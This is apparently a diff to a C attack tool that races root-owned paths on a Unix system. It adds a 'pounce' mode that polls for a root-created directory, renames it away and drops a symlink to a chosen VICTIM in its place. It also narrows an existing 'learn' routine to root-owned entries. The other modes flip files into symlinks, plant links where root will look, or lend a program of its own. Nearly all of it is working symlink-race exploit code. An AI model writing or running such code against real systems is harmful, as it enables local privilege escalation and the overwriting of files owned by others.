@@ -4,6 +4,7 @@
 //   flip   swaps what stands at PATH for a link to VICTIM, and back, again and again
 //   lend   puts a program of its own at PATH
 //   plant  learns from units, processes and folders how root calls its things, and puts links to VICTIM there before it
+//   pounce takes a folder of root's at PATH away the moment that it is there, for a link to VICTIM
 //   stand  puts a link to VICTIM at PATH wherever nothing stands there
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -67,6 +68,8 @@ static void learn(const char *from, int processes, const char *victim) {
       length = read(file, text, sizeof text - 1);
       close(file);
     } else {
+      struct stat its;
+      if (fstatat(dirfd(all), each->d_name, &its, AT_SYMLINK_NOFOLLOW) != 0 || its.st_uid != 0) continue;
       length = snprintf(text, sizeof text, "%s", each->d_name);
     }
     if (length <= 0) continue;
@@ -98,6 +101,17 @@ static void flip(const char *path, const char *victim) {
   nap(6000000);
 }
 
+static void pounce(const char *path, const char *victim) {
+  struct stat there;
+  char gone[600];
+  for (long looks = 0; looks < 200000; looks++) {
+    if (lstat(path, &there) != 0 || !S_ISDIR(there.st_mode) || there.st_uid != 0) continue;
+    snprintf(gone, sizeof gone, "%s/.got-%d", folder, rand() % 1000);
+    if (rename(path, gone) == 0) symlink(victim, path);
+    return;
+  }
+}
+
 static void lend(const char *path) {
   int file = open(aside, O_WRONLY | O_CREAT | O_TRUNC, 0755);
   if (file < 0) return;
@@ -119,6 +133,7 @@ int main(int count, char **words) {
     for (int word = 3; word < count; word++) {
       if (!strcmp(words[word], "wait") && !is_open()) break;
       if (!strcmp(words[word], "flip")) flip(path, victim);
+      if (!strcmp(words[word], "pounce")) pounce(path, victim);
       if (!strcmp(words[word], "lend")) lend(path);
       if (!strcmp(words[word], "stand") && lstat(path, &there) != 0) symlink(victim, path);
       if (!strcmp(words[word], "plant") && round % 2 == 0) {
